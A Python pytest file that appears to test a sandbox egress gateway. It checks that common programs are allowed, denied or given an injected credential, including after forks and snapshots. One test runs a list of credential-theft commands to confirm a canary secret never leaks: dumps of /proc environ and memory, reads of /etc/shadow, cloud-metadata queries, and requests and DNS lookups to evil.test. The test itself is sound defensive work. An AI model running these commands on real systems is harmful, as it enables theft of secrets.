"""Real programs in real sandboxes: allowed, denied, and with a credential added. They need not be told of the gateway."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import io
import json
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives import serialization

from hutch.client import AsyncClient
from hutch.client.models import Created
from hutch.host import kernel
from tests import leaks
from tests.conftest import CHECKOUT, RunningServer, start_server, stop_server, wait_until
from tests.egress.world import CANARY, NAME_SERVER, Origins, _certificate, _write

pytestmark = [pytest.mark.root, pytest.mark.sandbox]

WEB, SOCKETS, GRPC = "198.51.100.20", "198.51.100.21", "198.51.100.22"
NAMES = ("git.test", "registry.test", "pypi.test", "files.test", "apt.test")
SITE_PACKAGES = Path(httpx.__file__).parents[1]
HTTPX = ("httpx", "httpcore", "h11", "anyio", "certifi", "idna", "sniffio", "typing_extensions.py")
GUEST_PYTHON, JAVA = (CHECKOUT / ".hutch" / name for name in ("guest-python", "java"))
"""Made by `scripts/setup/run test-tools`."""
SETTLE_S = 20.0


def _npm(root: Path) -> None:
    package = {"name": "tiny", "version": "1.0.0", "main": "index.js"}
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as tar:
        for name, text in (("package.json", json.dumps(package)), ("index.js", "module.exports = 'tiny works'\n")):
            entry = tarfile.TarInfo(f"package/{name}")
            entry.size = len(text)
            tar.addfile(entry, io.BytesIO(text.encode()))
    (root / "tiny-1.0.0.tgz").write_bytes(packed.getvalue())
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(packed.getvalue()).digest()).decode()
    dist = {"tarball": "https://registry.test/tiny-1.0.0.tgz", "integrity": integrity}
    document = {"name": "tiny", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {**package, "dist": dist}}}
    (root / "tiny").write_text(json.dumps(document))


def _pip(root: Path) -> None:
    wheel = root / "tinypkg-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("tinypkg.py", "TEXT = 'tinypkg works'\n")
        archive.writestr("tinypkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tinypkg\nVersion: 1.0\n")
        archive.writestr(
            "tinypkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        archive.writestr("tinypkg-1.0.dist-info/RECORD", "")
    simple = root / "simple" / "tinypkg"
    simple.mkdir(parents=True)
    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
    (simple / "index.html").write_text(f'<a href="../../{wheel.name}#sha256={digest}">{wheel.name}</a>')


def _git(root: Path, scratch: Path) -> None:
    work = scratch / "work"
    identity = ["-c", "user.name=t", "-c", "user.email=t@t.test"]
    for command in (
        ["init", "-q", "-b", "main", str(work)],
        ["-C", str(work), *identity, "commit", "-q", "--allow-empty", "-m", "from git.test"],
        ["clone", "-q", "--bare", str(work), str(root / "repo.git")],
        ["-C", str(root / "repo.git"), "update-server-info"],
    ):
        subprocess.run(["git", *command], check=True)


def _apt(root: Path) -> None:
    (root / "Packages").write_text("Package: tinydeb\nVersion: 1.0\nArchitecture: all\nFilename: ./tinydeb.deb\nSize: 1\n\n")


@dataclass
class Services:
    """A server whose sandboxes see servers of the tests'."""

    server: RunningServer
    log: Path
    origins: Origins

    def requests(self, name: str) -> list[dict[str, Any]]:
        """What a server was asked."""
        lines = [json.loads(line) for line in self.log.read_text().splitlines()]
        return [line for line in lines if line["name"] == name]


@pytest.fixture(scope="module")
def services(origins: Origins, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Services]:
    scratch = tmp_path_factory.mktemp("services")
    files, log = scratch / "files", scratch / "requests.jsonl"
    log.touch()
    for name in NAMES:
        (files / name).mkdir(parents=True)
    _npm(files / "registry.test")
    _pip(files / "pypi.test")
    _git(files / "git.test", scratch)
    _apt(files / "apt.test")
    (files / "files.test" / "hello.txt").write_text("hello from files.test\n")
    root_key, root = _certificate("Root of the services", None, None, names=())
    _write(scratch / "services.pem", *_certificate("services", root_key, root, names=(*NAMES, "ws.test", "grpc.test")))
    roots = scratch / "roots.pem"
    roots.write_bytes(origins.ca.read_bytes() + root.public_bytes(serialization.Encoding.PEM))
    for address in (WEB, SOCKETS, GRPC):
        kernel.run(["ip", "-n", origins.namespace, "addr", "add", f"{address}/32", "dev", "eth0"])
    process = subprocess.Popen(
        [
            *["ip", "netns", "exec", origins.namespace, sys.executable, str(Path(__file__).with_name("services.py"))],
            *[str(files), str(scratch / "services.pem"), str(log)],
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
    )
    assert process.stdout is not None
    assert process.stdout.readline() == b"ready\n"
    data_dir, server_log = scratch / "data", scratch / "serve.log"
    data_dir.mkdir()
    before = leaks.snapshot(data_dir)
    environment = {"HUTCH_EGRESS__DNS_UPSTREAMS": f"{NAME_SERVER}:53", "HUTCH_EGRESS__EXTRA_TRUST_ROOTS": str(roots)}
    running, where = start_server(data_dir, server_log, environment=environment)
    yield Services(RunningServer(running, data_dir, server_log, where, before), log, origins)
    stop_server(running, server_log)
    assert process.stdin is not None
    process.stdin.close()
    process.wait(20)
    process.stdout.close()
    wait_until(
        lambda: not leaks.new(before, leaks.snapshot(data_dir)),
        SETTLE_S,
        lambda: str(leaks.new(before, leaks.snapshot(data_dir))),
    )


class Box:
    """A sandbox, its policy, and programs in it."""

    def __init__(self, client: AsyncClient, services: Services, name: str, session: str) -> None:
        self.client = client
        self.services = services
        self.name = name
        self.session = session

    async def policy(self, policy: Any) -> None:
        await self.client.sandboxes.set_network_policy(self.session, policy)

    async def upload(self, directory: Path, target: str) -> None:
        """A directory of the host, links followed, as `target` in the guest's `/vercel`."""

        async def packed() -> AsyncIterator[bytes]:
            yield archive.getvalue()

        archive = io.BytesIO()
        with tarfile.open(fileobj=archive, mode="w", dereference=True) as tar:
            tar.add(directory.resolve(), target)
        await self.client.files.write_archive(self.session, packed(), cwd="/vercel")

    async def shell(self, script: str) -> tuple[int, str]:
        """Exit code and everything that was printed."""
        code, out, err = await self.client.commands.run(self.session, ["sh", "-c", script])
        return code, out + err


@pytest.fixture
async def box(services: Services) -> AsyncIterator[Box]:
    services.origins.reset()
    for name in NAMES:
        services.origins.answer(name, WEB)
    services.origins.answer("ws.test", SOCKETS)
    services.origins.answer("grpc.test", GRPC)
    async with AsyncClient(services.server.where) as client:
        made = await client.sandboxes.create(persistent=False)
        yield Box(client, services, made.sandbox.name, made.session.id)
        await client.sandboxes.delete(made.sandbox.name)


WEB_SOCKET = """
const socket = new WebSocket("wss://ws.test/chat");
socket.onopen = () => socket.send("over a socket");
socket.onmessage = ({data}) => { console.log(data); socket.close(); };
socket.onerror = () => process.exit(1);
"""
FETCH = "fetch('https://files.test/hello.txt').then(r => r.text()).then(console.log, () => process.exit(1))"
URLLIB = "import urllib.request as r; print(r.urlopen('https://files.test/hello.txt', timeout=15).read().decode())"
NPM = (
    "rm -rf n ~/.npm && mkdir n && cd n && npm install --silent --no-audit --no-fund --fetch-retries=0 "
    "--registry=https://registry.test/ tiny && node -p 'require(\"tiny\")'"
)
PIP = (
    "rm -rf p && pip install -q --no-cache-dir --retries 0 --timeout 15 --target p --index-url https://pypi.test/simple/ tinypkg "
    "&& PYTHONPATH=p python3 -c 'import tinypkg; print(tinypkg.TEXT)'"
)
GRPC_CLIENT = Path(__file__).with_name("grpc_client.py")
JAVA_SOURCE = Path(__file__).with_name("Fetch.java")
KEYED = {"transform": [{"headers": {"x-key": CANARY}}]}
OPENSSL = "openssl s_client -servername api.test -connect api.test:443"
PROGRAMS = {
    "curl": ("files.test", "curl -sSf --max-time 15 https://files.test/hello.txt", "hello from files.test"),
    "wget": ("files.test", "wget -qO- --tries=1 --timeout=15 https://files.test/hello.txt", "hello from files.test"),
    "node": ("files.test", f'node -e "{FETCH}"', "hello from files.test"),
    "urllib": (
        "files.test",
        f'python3 -c "{URLLIB}"',
        "hello from files.test",
    ),
    "git": (
        "git.test",
        "rm -rf repo && git clone -q https://git.test/repo.git repo && git -C repo log --format=%s",
        "from git.test",
    ),
    "npm": ("registry.test", NPM, "tiny works"),
    "pip": ("pypi.test", PIP, "tinypkg works"),
    "websocket": ("ws.test", f"cat > ws.mjs <<'X'\n{WEB_SOCKET}X\nnode ws.mjs", "over a socket"),
}


@pytest.mark.parametrize("program", PROGRAMS)
async def test_a_program_is_allowed_denied_and_given_a_credential(box: Box, program: str) -> None:
    await passes(box, program)


async def passes(box: Box, program: str) -> None:
    name, script, expected = PROGRAMS[program]
    await box.policy({"allow": [name]})
    code, text = await box.shell(script)
    assert (code, expected in text) == (0, True), text

    await box.policy({"allow": {name: [{"transform": [{"headers": {"x-key": CANARY}}]}]}})
    code, text = await box.shell(script)
    assert (code, expected in text) == (0, True), text
    assert CANARY not in text
    asked = box.services.requests(name)
    assert asked[0]["headers"].get("x-key") is None
    assert asked[-1]["headers"]["x-key"] == CANARY

    before = len(asked)
    await box.policy({"allow": ["other.test"]})
    code, text = await box.shell(script)
    assert code != 0, text
    assert len(box.services.requests(name)) == before


async def test_httpx_is_allowed_denied_and_given_a_credential(box: Box) -> None:
    found = [file for part in HTTPX for file in (SITE_PACKAGES / part, *(SITE_PACKAGES / part).rglob("*")) if file.is_file()]
    files = {f"lib/{file.relative_to(SITE_PACKAGES)}": file.read_bytes() for file in found if file.suffix != ".pyc"}
    await box.client.files.put(box.session, files, cwd="/vercel")
    script = "PYTHONPATH=lib python3 -c \"import httpx; print(httpx.get('https://files.test/hello.txt').text)\""
    for policy, allowed in (
        ({"allow": ["files.test"]}, True),
        ({"allow": {"files.test": [{"transform": [{"headers": {"x-key": CANARY}}]}]}}, True),
        ({"allow": ["other.test"]}, False),
    ):
        await box.policy(policy)
        code, text = await box.shell(script)
        assert ("hello from files.test" in text) is allowed, text
        assert (code == 0) is allowed
    assert box.services.requests("files.test")[-1]["headers"]["x-key"] == CANARY


async def test_grpc_is_allowed_denied_and_given_a_credential(box: Box) -> None:
    """Unary calls, streams in one and both directions, trailers, statuses, deadlines, cancellation; spliced and intercepted."""
    await box.upload(GUEST_PYTHON, "lib")
    await box.client.files.put(box.session, {"call.py": GRPC_CLIENT.read_bytes()}, cwd="/vercel")

    def begun() -> list[dict[str, Any]]:
        return [call for call in box.services.requests("grpc.test") if "headers" in call]

    def ended() -> list[dict[str, Any]]:
        """Calls that the server was told nobody waits for any more."""
        return [call for call in box.services.requests("grpc.test") if "gone" in call]

    script = "PYTHONPATH=/vercel/lib python3 /vercel/call.py"
    for policy, key in (({"allow": ["grpc.test"]}, None), ({"allow": {"grpc.test": [KEYED]}}, CANARY)):
        before, gone = len(begun()), len(ended())
        await box.policy(policy)
        code, text = await box.shell(f"{script} --more")
        assert code == 0, text
        assert CANARY not in text
        found = json.loads(text)
        masked = "nothing" if key is None else "*" * len(CANARY)
        assert found["say"] == {
            "code": "OK",
            "details": "",
            "replies": ["hello"],
            "trailing": {"x-ended": "Say", "x-given": masked},
        }
        assert found["count"]["replies"] == ["0", "1", "2"]
        assert found["chat"]["replies"] == ["one", "two", "three"]
        assert {found[name]["code"] for name in ("count", "chat")} == {"OK"}
        assert (found["count"]["trailing"]["x-ended"], found["chat"]["trailing"]["x-ended"]) == ("Count", "Chat")
        assert (found["fail"]["code"], found["fail"]["details"]) == ("NOT_FOUND", "no such thing")
        # Compressed messages can't be searched, and this server compresses whatever its client takes.
        assert found["squeeze"]["code"] == ("OK" if key is None else "UNAVAILABLE")
        assert found["wait"]["code"] == "CANCELLED"
        async with asyncio.timeout(SETTLE_S):
            while len(ended()) == gone:
                await asyncio.sleep(0.02)
        calls = begun()[before:]
        assert {call["headers"].get("x-key") for call in calls} == {key}
        assert all(0 < call["left_s"] < 60 for call in calls), calls

    # Still with the credential: a call that goes on while the name is closed.
    before = len(begun())
    waiting = asyncio.create_task(box.shell(f"{script} --wait"))
    async with asyncio.timeout(SETTLE_S):
        while len(begun()) == before:
            await asyncio.sleep(0.02)
    await box.policy({"allow": ["other.test"]})
    code, text = await waiting
    assert (code, json.loads(text)["wait"]["code"]) == (0, "UNAVAILABLE"), text
    before = len(begun())
    code, text = await box.shell(script)
    assert (code, json.loads(text)["say"]["code"]) == (0, "UNAVAILABLE"), text
    refused = {"match": {"path": {"exact": "/test.Echo/Say"}}, "response": {"statusCode": 403}}
    await box.policy({"allow": {"grpc.test": [refused]}})
    code, text = await box.shell(script)
    assert (code, json.loads(text)["say"]["code"]) == (0, "PERMISSION_DENIED"), text
    assert len(begun()) == before


async def test_java_is_allowed_denied_and_given_a_credential(box: Box, tmp_path: Path) -> None:
    """Both clients of a JDK verify servers with the store that the variable names, and with a link to it as Debian's JDK has one.
    With the JDK's own, which knows neither of our authorities, they reach nothing."""
    subprocess.run(["javac", "-d", str(tmp_path), str(JAVA_SOURCE)], check=True)
    await box.upload(tmp_path, "classes")
    await box.upload(JAVA, "java")
    java = "/vercel/java/bin/java -XX:TieredStopAtLevel=1 -cp /vercel/classes Fetch https://files.test/hello.txt"
    own = f"env -u JAVA_TOOL_OPTIONS {java}"
    inject = {"allow": {"files.test": [KEYED]}}

    await box.policy({"allow": ["files.test"]})
    code, text = await box.shell(own)
    assert (code, text.count("unable to find valid certification path")) == (1, 2), text
    code, text = await box.shell(java)
    assert code == 0, text
    assert text.count("CN=Root of the services hello from files.test") == 2, text
    assert box.services.requests("files.test")[-1]["headers"].get("x-key") is None
    await box.policy(inject)
    code, text = await box.shell(java)
    assert (code, text.count("CN=Hutch egress "), text.count("hello from files.test")) == (0, 2, 2), text
    assert CANARY not in text
    asked = box.services.requests("files.test")
    assert [request["headers"]["x-key"] for request in asked[-2:]] == [CANARY, CANARY]

    await box.shell("ln -sf /etc/ssl/certs/java/cacerts /vercel/java/lib/security/cacerts")
    code, text = await box.shell(own)
    assert (code, text.count("CN=Hutch egress ")) == (0, 2), text

    before = len(box.services.requests("files.test"))
    await box.policy({"allow": ["other.test"]})
    code, text = await box.shell(java)
    assert (code, text.count("Exception")) == (1, 2), text
    assert len(box.services.requests("files.test")) == before


async def test_a_datagram_that_is_not_admitted_is_refused_at_once(box: Box) -> None:
    """gVisor tells a socket of one kind of refusal only; QUIC and DNS clients that are told of none wait for seconds."""
    program = (
        "import socket; s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(15); s.connect(('198.51.100.20', 443)); "
        "s.send(b'x' * 1200); s.recv(1)"
    )
    await box.policy({"allow": ["files.test"]})
    _, text = await box.shell(f'python3 -c "{program}"')
    assert "ConnectionRefusedError" in text


async def test_apt_over_plain_http_only_with_the_rule_for_it(box: Box) -> None:
    script = (
        "echo 'deb [trusted=yes] http://apt.test/ ./' | sudo tee /etc/apt/sources.list >/dev/null; "
        "sudo rm -rf /etc/apt/sources.list.d/*; "
        "sudo apt-get -o Acquire::Retries=0 update 2>&1; apt-cache show tinydeb"
    )
    await box.policy({"allow": ["apt.test"]})
    _, text = await box.shell(script)
    assert "Version: 1.0" not in text
    assert not box.services.requests("apt.test")
    await box.policy({"allow": ["apt.test"], "defaults": {"plaintextHttp": True}})
    code, text = await box.shell(script)
    assert (code, "Version: 1.0" in text) == (0, True), text


@pytest.mark.section("14.2")
async def test_every_program_of_the_image_trusts_what_is_intercepted_and_what_is_not(box: Box) -> None:
    """The bundle has the roots of the host and of the operator, and the sandbox's own authority; openssl verifies both ways."""
    script = "openssl s_client -verify_return_error -brief -connect files.test:443 -servername files.test </dev/null 2>&1"
    for policy, issuer in (
        ({"allow": ["files.test"]}, "services"),
        ({"allow": {"files.test": [{"transform": [{"headers": {"x-a": "b"}}]}]}}, "files.test"),
    ):
        await box.policy(policy)
        code, text = await box.shell(script)
        assert code == 0, text
        assert f"CN = {issuer}" in text or f"CN={issuer}" in text, text


async def test_a_process_that_runs_on_is_given_the_credential_and_nothing_else(box: Box) -> None:
    """The promise itself: open, locked down while a process runs, and the key is nowhere."""
    box.services.origins.script("api.test", b"HTTP/1.1 200 OK\r\ncontent-length: 300\r\n\r\n" + b"%HEAD%".ljust(300))
    caller = "while true; do curl -s -o /dev/null -w '%{http_code}\\n' https://files.test/hello.txt; sleep 0.1; done"
    command = await box.client.commands.start(box.session, ["sh", "-c", caller])
    rule = {"match": {"path": {"startsWith": "/"}}, "transform": [{"headers": {"authorization": f"Bearer {CANARY}"}}]}
    await box.policy({"allow": {"files.test": [rule], "api.test": [rule]}})
    async with asyncio.timeout(30):
        while not any(CANARY in str(asked["headers"].get("authorization")) for asked in box.services.requests("files.test")):
            await asyncio.sleep(0.05)
    thefts = (
        "env; set; cat /proc/*/environ /proc/*/cmdline 2>/dev/null",
        f"grep -rIl '{CANARY[:16]}' / --exclude-dir=proc --exclude-dir=sys 2>/dev/null",
        "sudo grep -rl CANARY-7f3a /etc /run /tmp /root /home /vercel /var 2>/dev/null",
        *(
            f"curl -s {flags} https://api.test/"
            for flags in ("", "-i", "--http1.1", "--http2", "-X POST -d x", "-r 0-99", "--compressed")
        ),
        *(
            f"curl -s -H '{header}: x' https://api.test/"
            for header in ("Authorization", "authorization", "X-Forwarded-Host", "TE", "Range")
        ),
        *(f"curl -s -H 'Host: {host}' https://api.test/" for host in ("evil.test", "files.test", "api.test:444")),
        *(f"curl -s https://api.test/{path}" for path in ("..", "%2e%2e/x", "a//b", "?key=authorization", "#x")),
        "curl -s http://api.test/",
        "curl -s -k --resolve api.test:443:198.51.100.66 https://api.test/",
        "curl -s --connect-to api.test:443:evil.test:443 https://api.test/",
        "curl -s https://evil.test/; curl -s -k https://198.51.100.66/",
        "curl -s -L https://api.test/redirect",
        f"{OPENSSL} </dev/null 2>&1",
        f"printf 'TRACE / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n' | timeout 5 {OPENSSL} -quiet 2>&1",
        f"printf 'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n' | timeout 5 {OPENSSL} -quiet 2>&1",
        "dig +short TXT api.test; dig +short @198.51.100.66 evil.test; dig +short canary.evil.test",
        "sudo cat /etc/shadow /proc/kcore 2>/dev/null | head -c 100000",
        "cat /etc/resolv.conf /etc/hosts /usr/local/share/ca-certificates/*",
        "ls -la /run/hutch; sudo cat /run/hutch/* 2>/dev/null | head -c 1000",
        "sudo sh -c 'cat /proc/[0-9]*/maps /proc/[0-9]*/mem' 2>&1 | tail -c 100000",
        "curl -s --max-time 3 http://169.254.169.254/latest/meta-data/; curl -s --max-time 3 http://100.64.0.1:80/",
    )
    assert len(thefts) >= 35
    for theft in thefts:
        _, text = await box.shell(theft)
        assert CANARY not in text, theft
        assert base64.b64encode(CANARY.encode()).decode()[:40] not in text, theft
    seen = box.services.origins.seen()
    assert not seen.to("evil.test")
    assert not any(CANARY.encode() in connection["data"] for connection in seen.connections if connection["name"] != "api.test")
    await box.client.commands.kill(box.session, command.id)
    for directory in (box.services.server.data_dir, box.services.server.log):
        assert (
            subprocess.run(
                ["grep", "-rl", "--exclude-dir=images", CANARY, str(directory)], capture_output=True, check=False
            ).stdout
            == b""
        )


# -- forks -------------------------------------------------------------------------------------------

KEPT_OPEN = """
import http.client, socket, ssl, time
connection = None
while True:
    try:
        if connection is None:
            connection = http.client.HTTPSConnection("files.test", timeout=5)
            print(socket.gethostname(), "opened", flush=True)
        connection.request("GET", "/hello.txt")
        print(socket.gethostname(), connection.getresponse().read().decode().strip(), flush=True)
    except OSError:
        print(socket.gethostname(), "ended", flush=True)
        connection = None
    time.sleep(0.05)
"""


async def printed(client: AsyncClient, session: str, command: str, until: str, count: int = 1) -> list[str]:
    """Lines of a command, once `until` is in so many."""
    text, lines = "", list[str]()
    try:
        async with asyncio.timeout(30):
            async for piece in client.commands.logs(session, command):
                text += piece.text
                lines = text.splitlines()[:-1]
                if sum(until in line for line in lines) >= count:
                    return lines
    except TimeoutError:
        pass
    raise AssertionError(lines[-20:])


async def test_a_fork_is_judged_by_its_own_policy_from_its_first_packet(box: Box) -> None:
    """And what was added to its parent's requests was never in its memory."""
    rule = {"transform": [{"headers": {"authorization": f"Bearer {CANARY}"}}]}
    await box.policy({"allow": {"files.test": [rule]}})
    await box.client.files.put(box.session, {"kept_open.py": KEPT_OPEN.encode()}, cwd="/vercel")
    command = await box.client.commands.start(box.session, ["sh", "-c", "python3 kept_open.py"])
    await printed(box.client, box.session, command.id, "hello", 5)
    snapshot = (await box.client.snapshots.take(box.session, keep_running=True, memory=True)).snapshot
    memory = box.services.server.data_dir / "host" / "memory" / snapshot.id
    assert subprocess.run(["grep", "-rl", CANARY, str(memory)], capture_output=True, check=False).stdout == b""
    assert subprocess.run(["grep", "-rlq", "kept_open", str(memory)], check=False).returncode == 0
    [closed] = await box.client.sandboxes.fork(box.name, "closed", memory=True, networkPolicy="deny-all")
    [alike] = await box.client.sandboxes.fork(box.name, "alike", memory=True, networkPolicy={"allow": {"files.test": [rule]}})
    try:
        assert all(
            "hello" not in line
            for line in await printed(box.client, closed.session.id, command.id, "closed ended", 5)
            if line.startswith("closed")
        )
        # Its parent's connection is not its own: it ends, and another one is let through. A program that looks at its trust store
        # before the child's own authority is there, moments after it went on, needs more attempts.
        lines = await printed(box.client, alike.session.id, command.id, "alike hello", 5)
        turns = [line.split()[1] for line in lines if "hello" not in line]
        assert turns == ["opened", *["ended", "opened"] * (len(turns) // 2)]
        assert 3 <= len(turns) <= 21
        assert all("hello" in line for line in lines[-5:])
        parents = await printed(box.client, box.session, command.id, "hello", 60)
        assert [line for line in parents if "hello" not in line] == [f"{parents[0].split()[0]} opened"]
        for fork in (closed, alike):
            _, out, err = await box.client.commands.run(
                fork.session.id,
                ["sh", "-c", "env; sudo cat /proc/*/environ; sudo sh -c 'cat /proc/[0-9]*/mem' 2>/dev/null | tail -c 100000"],
            )
            assert CANARY not in out + err
        records = [record async for record in box.client.audit.all("closed")]
        assert {record["decision"] for record in records if record["kind"] != "policy"} == {"deny"}
    finally:
        for fork in (closed, alike):
            await box.client.sandboxes.delete(fork.sandbox.name)
        await box.client.snapshots.delete(snapshot.id)
        await box.client.commands.kill(box.session, command.id)


async def forked(client: AsyncClient, name: str) -> Created:
    [fork] = await client.sandboxes.fork(name, memory=True)
    return fork


async def from_snapshot(client: AsyncClient, name: str) -> Created:
    session = (await client.sandboxes.get(name)).session
    taken = await client.snapshots.take(session.id)
    return await client.sandboxes.create(source={"type": "snapshot", "snapshotId": taken.snapshot.id}, persistent=False)


async def resumed(client: AsyncClient, name: str) -> Created:
    session = (await client.sandboxes.get(name)).session
    await client.snapshots.take(session.id)
    return await client.sandboxes.resume(name)


@pytest.mark.parametrize("program", ["curl", "node", "urllib", "git"])
@pytest.mark.parametrize("going_on", [forked, from_snapshot, resumed])
async def test_a_program_in_what_goes_on_is_allowed_denied_and_given_a_credential(
    box: Box, program: str, going_on: Callable[[AsyncClient, str], Awaitable[Created]]
) -> None:
    await box.policy({"allow": {"other.test": [KEYED]}})
    made = await going_on(box.client, box.name)
    try:
        await passes(Box(box.client, box.services, made.sandbox.name, made.session.id), program)
    finally:
        if made.sandbox.name != box.name:
            await box.client.sandboxes.delete(made.sandbox.name)
